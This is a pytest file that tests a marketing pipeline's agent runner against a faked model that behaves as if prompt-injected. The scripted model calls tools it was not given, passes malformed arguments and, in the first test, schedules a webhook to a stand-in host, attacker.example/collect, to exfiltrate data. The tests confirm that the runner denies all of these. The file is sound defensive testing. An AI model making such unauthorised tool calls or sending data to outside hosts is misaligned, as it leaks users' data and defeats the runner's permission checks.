"""An agent stays inside its own tools, with arguments that fit them, whatever the model asks for.

The model is an OpenAI-compatible server faked at the HTTP layer (Chat Completions payloads), so
its answers can be what a prompt-injected model would send: a tool the agent was never offered,
arguments of the wrong type, a NaN.
"""

from __future__ import annotations

import json
import time
from typing import Any

import httpx
import pytest
import sqlalchemy as sa

from marketing_pipelines.agents import users
from marketing_pipelines.agents.catalog import TOOLS, ToolCallContext, get_agent
from marketing_pipelines.agents.queue import AGENT_RUNS, Transcript, get_agent_run, request_agent_run, transcript
from marketing_pipelines.agents.runner import CallsGate, RunLimits, run_agent_loop
from marketing_pipelines.db.schema import agent_run, marketing_execution
from marketing_pipelines.egress import EgressPolicy, parse_networks
from marketing_pipelines.errors import InvalidInput
from marketing_pipelines_tests.agents.fake_models import Script, openai_completion, scripted_openai
from marketing_pipelines_tests.factories import add_campaign, settings_from

KEY = {"OPENAI_API_KEY": "sk-openai-test"}
BRIEF = {"stage": "launch"}

LOOPBACK_ALLOWED = EgressPolicy(parse_networks(["127.0.0.1/32"]))


@pytest.fixture
def ana(engine: sa.Engine) -> sa.Engine:
    add_campaign(engine, "spring-launch")
    add_campaign(engine, "secret-project")
    with engine.begin() as conn:
        users.add_user(conn, "ana")
        # ana may do everything, including schedule executions: only the agent's tool list stops it.
        for permission in ("campaign:read", "measurement:read", "execution:read", "execution:write"):
            users.grant(conn, "ana", permission)
    return engine


def _tool_call(name: str, arguments: str) -> httpx.Response:
    message = {
        "role": "assistant",
        "content": None,
        "refusal": None,
        "tool_calls": [{"id": "call_1", "type": "function", "function": {"name": name, "arguments": arguments}}],
    }
    return httpx.Response(200, json=openai_completion(message, finish_reason="tool_calls"))


FINAL = httpx.Response(200, json=openai_completion({"role": "assistant", "content": "Done.", "refusal": None}))


def _run(engine: sa.Engine, agent: str, *responses: httpx.Response) -> tuple[list[dict[str, Any]], Script]:
    with engine.begin() as conn:
        run_id = request_agent_run(
            conn,
            agent=agent,
            campaign_id="spring-launch",
            requested_by="ana",
            input=BRIEF,
            provider="openai",
            settings=settings_from(KEY),
        )
    with engine.connect() as conn:
        row = get_agent_run(conn, run_id)
    assert row is not None
    script = Script(*responses)
    run_agent_loop(
        engine=engine,
        definition=get_agent(agent),
        run=row,
        provider=scripted_openai(script),
        transcript=Transcript(engine, run_id, 1),
        limits=RunLimits(max_steps=4, deadline=time.monotonic() + 60),
        gate=CallsGate(lambda: None),
        egress=EgressPolicy(),
    )
    with engine.connect() as conn:
        return [dict(s) for s in transcript(conn, run_id)], script


def _executions(engine: sa.Engine) -> int:
    with engine.connect() as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(marketing_execution)).scalar_one()


def test_a_read_only_agent_cannot_call_a_tool_it_was_not_given(ana: sa.Engine) -> None:
    # campaign_brief is offered read_campaign and read_measurement; the model asks to schedule a
    # webhook anyway, with a URL it chose. ana herself may schedule executions.
    hostile = json.dumps(
        {
            "campaign_id": "spring-launch",
            "stage": "launch",
            "action": "webhook",
            "due": "2026-12-01T09:00:00+00:00",
            "payload": {"url": "https://attacker.example/collect"},
        }
    )
    steps, script = _run(ana, "campaign_brief", _tool_call("schedule_execution", hostile), FINAL)
    assert _executions(ana) == 0
    [denial] = [s for s in steps if s["kind"] == "denial"]
    assert denial["name"] == "schedule_execution"
    assert "not one of this agent's tools (read_campaign, read_measurement)" in denial["content"]["reason"]
    # The model was told, as a tool result marked as an error.
    second = script.body(1)["messages"]
    assert second[-1]["role"] == "tool" and "not one of this agent's tools" in second[-1]["content"]


@pytest.mark.parametrize(
    ("arguments", "problem"),
    [
        ('{"campaign_id": "spring-launch", "from": 20261101, "to": "2026-11-30"}', "from: 20261101 is not of type"),
        ('{"campaign_id": ["spring-launch"], "from": "2026-11-01", "to": "2026-11-30"}', "campaign_id: "),
        ('{"campaign_id": "spring-launch", "from": "2026-11-01"}', "'to' is a required property"),
        ('{"campaign_id": "spring-launch", "from": "2026-11-01", "to": "2026-11-30", "n": NaN}', "NaN or infinite"),
    ],
)
def test_arguments_that_do_not_fit_the_schema_are_refused_before_the_tool_runs(
    ana: sa.Engine, arguments: str, problem: str
) -> None:
    steps, _ = _run(ana, "campaign_brief", _tool_call("read_measurement", arguments), FINAL)
    kinds = [(s["kind"], s["name"]) for s in steps]
    assert ("denial", "read_measurement") in kinds and ("tool_result", "read_measurement") not in kinds
    assert not [s for s in steps if s["kind"] == "tool_error"]  # no exception inside tool code
    [denial] = [s for s in steps if s["kind"] == "denial"]
    assert denial["content"]["reason"].startswith("invalid arguments: ")
    assert problem in denial["content"]["reason"]


def _request_brief(conn: sa.Connection, campaign_id: str) -> int:
    return request_agent_run(
        conn,
        agent="campaign_brief",
        campaign_id=campaign_id,
        requested_by="ben",
        input=BRIEF,
        settings=settings_from({}),
    )


def test_an_agent_run_for_a_campaign_without_any_grant_is_refused_when_requested(ana: sa.Engine) -> None:
    with ana.begin() as conn:
        users.add_user(conn, "ben")
        users.grant(conn, "ben", "campaign:read", "spring-launch")
    with (
        pytest.raises(InvalidInput, match="holds no permission on campaign 'secret-project'") as caught,
        ana.begin() as conn,
    ):
        _request_brief(conn, "secret-project")
    assert "marketing-pipelines users grant ben campaign:read --campaign secret-project" in str(caught.value)
    with ana.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(agent_run)).scalar_one() == 0
    # One grant on the campaign is enough to queue it; the run's calls are then checked one by one.
    with ana.begin() as conn:
        assert _request_brief(conn, "spring-launch")
    assert AGENT_RUNS.table is agent_run


@pytest.mark.parametrize(("policy", "scheduled"), [(EgressPolicy(), False), (LOOPBACK_ALLOWED, True)])
def test_the_schedule_tool_follows_the_runs_egress_policy_not_the_workers_environment(
    engine: sa.Engine, policy: EgressPolicy, scheduled: bool
) -> None:
    # The tests' environment allows no private network; the run's policy (its webhook resource's) decides.
    # Before, the tool read MARKETING_WEBHOOK_ALLOW_NETWORKS from the worker's environment while the resource
    # held it, and refused the loopback receiver that the run's policy allows.
    add_campaign(engine)
    args = {
        "campaign_id": "spring-launch",
        "stage": "launch",
        "action": "webhook",
        "due": "now",
        "payload": {"url": "http://127.0.0.1:9/hook", "body": {}},
    }
    caller = ToolCallContext(agent_run_id=1, user_id="ana", campaign_id="spring-launch", egress=policy)
    if scheduled:
        with engine.begin() as conn:
            assert TOOLS["schedule_execution"].run(conn, args, caller)
    else:
        with pytest.raises(InvalidInput, match=r"127\.0\.0\.1"), engine.begin() as conn:
            TOOLS["schedule_execution"].run(conn, args, caller)
    with engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(marketing_execution)).scalar_one() == int(scheduled)
